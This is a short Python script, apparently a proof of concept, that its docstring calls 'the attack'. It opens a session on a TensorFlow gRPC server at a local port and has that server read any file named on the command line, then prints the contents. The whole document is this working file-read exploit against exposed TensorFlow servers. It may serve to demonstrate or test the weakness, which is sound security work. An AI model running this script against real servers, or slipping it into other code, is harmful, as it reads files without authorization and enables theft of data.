"""The attack: python read_remotely.py PORT FILE has a server of TensorFlow's read a file for us."""

import sys

import tensorflow as tf

port, file = sys.argv[1:]
with tf.Graph().as_default() as graph:
    content = tf.io.read_file(file)
limit = tf.compat.v1.ConfigProto(operation_timeout_in_ms=10_000)
with tf.compat.v1.Session(f"grpc://127.0.0.1:{port}", graph, limit) as session:
    print(session.run(content).decode())
